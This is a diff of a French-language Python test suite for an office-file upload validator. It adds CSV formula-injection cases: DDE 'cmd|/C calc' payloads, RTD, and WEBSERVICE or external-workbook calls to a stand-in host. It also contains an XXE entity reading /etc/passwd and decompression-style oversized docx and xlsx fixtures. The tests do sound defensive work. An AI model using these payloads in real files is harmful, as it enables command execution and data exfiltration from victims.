@@ -55,6 +55,26 @@ _CHAMPS = (
 )
 _DEBUT, _FIN = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
 CHAMPS_ACTIFS = [*(f"{_DEBUT}{texte}{_FIN}" for texte in _CHAMPS), f"{_DEBUT}{_CHAMPS[0]}"]
+CELLULES_DE_TEXTE = (
+    "-Dupont (Lille)",
+    "- Réunion (3 personnes)",
+    "-Dupont (59)",
+    "+33 (0)1 02 03 04 05",
+    "@contact (Seine-Saint-Denis, Nord)",
+    "- voir https://exemple.gouv.fr (page des aides)",
+    "- oui | non",
+)
+CELLULES_ACTIVES = (
+    "-SUM(A1)",
+    '-RTD ("x")',
+    "+WEBSERVICE (A1)",
+    "@SUM (A:A)",
+    '-Dupont (Lille)("x")',
+    '-2+RTD("prog.id")',
+    "-2+3+cmd|'/C calc'!A0",
+    "+-=cmd|'/C calc'!A0",
+    "-1+'https://ailleurs.example/[x.xlsx]F'!A1",
+)
 ADMISES = {
     "tableau.xlsx": p.xlsx("=IF(SUM(A1:A2)>2,\"voir (x)\",_xlfn.XLOOKUP(A1,'Feuille (2)'!A:A,A:A))"),
     "note.docx": p.docx(
@@ -62,6 +82,7 @@ ADMISES = {
         '<w:fldChar w:fldCharType="separate"/><w:fldSimple w:instr=" PAGE "/><w:fldChar w:fldCharType="end"/>'
     ),
     "liste.csv": b"nom;telephone;solde\n-Dupont;+33 1 02 03 04 05;=1+1\n@contact;-12,5;=A1\n",
+    **{f"a9-texte-{n}.csv": f"nom;note\n1;{cellule}\n".encode() for n, cellule in enumerate(CELLULES_DE_TEXTE)},
     "tableau.ods": p.odf(corps='<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>'),
 }
 DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
@@ -114,6 +135,7 @@ MAUVAISES = {
     **{f"a9-{n}.csv": f"nom;valeur\n1;{formule}\n".encode() for n, formule in enumerate(FORMULES_ACTIVES)},
     **{f"a9-champ-{n}.docx": p.docx(champ) for n, champ in enumerate(CHAMPS_ACTIFS)},
     "a9-fonction-traduite.csv": b'nom;valeur\n1;=SERVICEWEB("https://ailleurs.example/")\n',
+    **{f"a9-signe-{n}.csv": f"nom;note\n1;{cellule}\n".encode() for n, cellule in enumerate(CELLULES_ACTIVES)},
     "a9-sur-deux-lignes.csv": b'nom;valeur\n1;"=1+\nRTD(""x"";;""y"")"\n',
     "a9-virgule.csv": b"nom,valeur\n1,@IMAGE(A1)\n",
     "a9-nom-defini.xlsx": p.avec_nom_defini('WEBSERVICE("https://ailleurs.example/"&Sheet!A1)'),
@@ -182,6 +204,19 @@ def docx_aux_balises_sans_fin() -> bytes:
     return p.avec(p.docx(), {f"word/header{n}.xml": f"<a>{corps}</a>".encode() for n in range(2)})
 
 
+def docx_aux_champs_imbriques() -> bytes:
+    """About 2.8 MB: fields that open inside one another, and never close."""
+    champs = "".join(f"{_DEBUT}<w:instrText> IF {n * 7919 % 99991} </w:instrText>" for n in range(400_000))
+    return p.docx(champs)
+
+
+def xlsx_aux_guillemets() -> bytes:
+    """Formulas as long as they may be, of quotes: one that is never closed costs the others of its formula."""
+    formule = "A1+" + "'" * 8_180 + "A1"
+    corps = f'<c r="A1"><f>{formule}</f></c>' * 1_000
+    return p.avec(p.xlsx(), {"xl/worksheets/sheet9.xml": f"<worksheet>{corps}</worksheet>".encode()})
+
+
 @pytest.mark.epreuve
 @pytest.mark.processus_borne
 @pytest.mark.parametrize(
@@ -189,8 +224,10 @@ def docx_aux_balises_sans_fin() -> bytes:
     [
         ("rapport.pdf", pdf_aux_mille_flux),
         ("note.docx", docx_aux_balises_sans_fin),
+        ("imbriques.docx", docx_aux_champs_imbriques),
         ("champs.docx", lambda: p.docx("<w:instrText>" + "DDE " * 2_000_000 + "</w:instrText>")),
         ("formules.xlsx", lambda: p.xlsx("=" + "'" * 30_000)),
+        ("guillemets.xlsx", xlsx_aux_guillemets),
         ("cellules.csv", lambda: b"=" + b"A" * (9 << 20)),
     ],
 )
